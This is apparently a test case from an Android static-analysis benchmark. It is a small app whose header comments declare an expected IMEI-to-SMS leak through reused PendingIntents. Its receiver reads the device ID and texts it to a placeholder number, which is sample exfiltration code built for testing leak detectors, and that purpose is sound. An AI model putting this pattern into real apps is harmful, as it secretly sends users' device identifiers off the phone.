// about       The second pending intent, which is the same as the first, brings its extras along.
// leak        DEV_IMEI sms
// receiver    cn.example.flow.MainActivity$Report
package cn.example.flow;

import android.app.Activity;
import android.app.PendingIntent;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class MainActivity extends Activity {
  private PendingIntent plain;
  private PendingIntent full;

  @Override
  protected void onResume() {
    super.onResume();
    Intent greeting = new Intent(this, Report.class).putExtra("text", "hello");
    String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
    Intent report = new Intent(this, Report.class).putExtra("text", id);
    plain = PendingIntent.getBroadcast(this, 1, greeting, PendingIntent.FLAG_UPDATE_CURRENT);
    // Extras make no difference between two intents: without the flag the old ones stay.
    full = PendingIntent.getBroadcast(this, 1, report, PendingIntent.FLAG_UPDATE_CURRENT);
    try {
      full.send();
    } catch (PendingIntent.CanceledException e) {
      Log.w("main", "cancelled " + plain);
    }
  }

  public static class Report extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
      String text = intent.getStringExtra("text");
      SmsManager.getDefault().sendTextMessage("5550100", null, text, null, null);
    }
  }
}
